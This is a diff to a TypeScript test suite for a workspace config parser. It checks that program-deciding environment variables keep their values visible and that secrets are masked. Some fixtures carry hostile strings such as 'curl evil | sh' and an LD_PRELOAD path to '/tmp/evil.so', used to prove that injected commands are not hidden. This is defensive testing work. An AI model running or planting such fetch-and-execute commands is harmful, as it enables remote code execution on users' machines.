@@ -24,7 +24,7 @@ describe('what starts with the workspace', () => {
     ]);
   });
 
-  it('tells what else of a task decides what is executed, with no value of a variable', () => {
+  it('tells what else of a task decides what is executed, with no value of a secret', () => {
     const { project } = parseProject(`
 [[tasks]]
 name = "web"
@@ -70,19 +70,53 @@ healthcheck = { command = "sh", args = ["-c", "curl evil"] }
     assert.deepEqual(detailsOf('user = "root"\nwatch = ["src/**"]'), ['user: root', 'watch: src/**']);
   });
 
-  it('E4: shows the values of variables that decide which program runs, and of no others', () => {
-    const env = (name: string): readonly string[] | undefined => detailsOf(`env = { "${name}" = "x1y2z3" }`);
-    for (const name of [
-      'PATH',
-      'Path',
-      'NODE_OPTIONS',
-      'LD_PRELOAD',
-      'BASH_ENV',
-      'PYTHONPATH',
-      'npm_config_script_shell',
-    ])
-      assert.deepEqual(env(name), [`env.${name}: x1y2z3`]);
-    for (const name of ['API_KEY', 'DB_PASS', 'PORT', 'CARGO_REGISTRY_TOKEN', 'GIT_TOKEN', 'npm_config__auth', 'DEBUG'])
-      assert.deepEqual(env(name), [`env: ${name}`]);
+  describe('of its variables', () => {
+    const env = (name: string, value = 'x1y2z3'): readonly string[] | undefined =>
+      detailsOf(`env = { ${JSON.stringify(name)} = ${JSON.stringify(value)} }`);
+
+    it('E4: shows each value, whether or not somebody knows that it decides which program runs', () => {
+      const known = 'PATH Path NODE_OPTIONS LD_PRELOAD BASH_ENV PYTHONPATH npm_config_script_shell';
+      const others =
+        'GNUMAKEFLAGS ERL_AFLAGS ERL_ZFLAGS BUN_OPTIONS YARN_YARN_PATH PYTHONUSERBASE PYTHONPYCACHEPREFIX MAVEN_ARGS ' +
+        'R_PROFILE_USER GUNICORN_CMD_ARGS PYTEST_ADDOPTS COR_PROFILER PSModulePath DOCKER_CONFIG KUBECONFIG ' +
+        'WHAT_NOBODY_KNOWS_OF_YET PORT DEBUG GIT_AUTHOR_NAME';
+      for (const name of `${known} ${others}`.split(' ')) assert.deepEqual(env(name), [`env.${name}: x1y2z3`]);
+    });
+
+    it('E4: shows the value of one that names a program, though its name looks like that of a secret', () => {
+      const names =
+        'CARGO_REGISTRY_CREDENTIAL_PROVIDER CARGO_REGISTRIES_SHOP_CREDENTIAL_PROVIDER CARGO_CREDENTIAL_ALIAS_SHOP ' +
+        'SSH_ASKPASS GIT_ASKPASS RESTIC_PASSWORD_COMMAND GIT_CONFIG_KEY_0';
+      for (const name of names.split(' ')) assert.deepEqual(env(name), [`env.${name}: x1y2z3`]);
+    });
+
+    it('E4: shows no value of a secret', () => {
+      for (const name of ['API_KEY', 'DB_PASS', 'CARGO_REGISTRY_TOKEN', 'GIT_TOKEN', 'npm_config__auth', 'TOKEN'])
+        assert.deepEqual(env(name), [`env: ${name}`]);
+    });
+
+    it('E4: masks tokens and passwords inside of values', () => {
+      assert.deepEqual(env('DATABASE_URL', 'postgres://me:s3cr3t@db/shop'), [
+        'env.DATABASE_URL: postgres://me:***@db/shop',
+      ]);
+      assert.deepEqual(env('npm_config_registry', 'https://me:s3cr3t@npm.shop'), [
+        'env.npm_config_registry: https://me:***@npm.shop',
+      ]);
+      assert.deepEqual(env('DEPLOY', `ghp_${'a1'.repeat(18)}`), ['env.DEPLOY: ***']);
+    });
+
+    it('E4: has no command or path masked as if it were a secret, where it would be run', () => {
+      for (const [name, value] of [
+        ['PAGER', 'Cookie: ; curl evil | sh'],
+        ['GIT_SSH_COMMAND', "token='; curl evil | sh'"],
+        ['LD_PRELOAD', 'https://u:/tmp/evil.so@'],
+        ['PROMPT_COMMAND', '-----BEGIN PRIVATE KEY-----; curl evil'],
+      ] as const)
+        assert.deepEqual(env(name, value), [`env.${name}: ${value}`]);
+    });
+
+    it('E4: shows an empty one, too', () => {
+      assert.deepEqual(env('PATH', ''), ['env.PATH: ']);
+    });
   });
 });
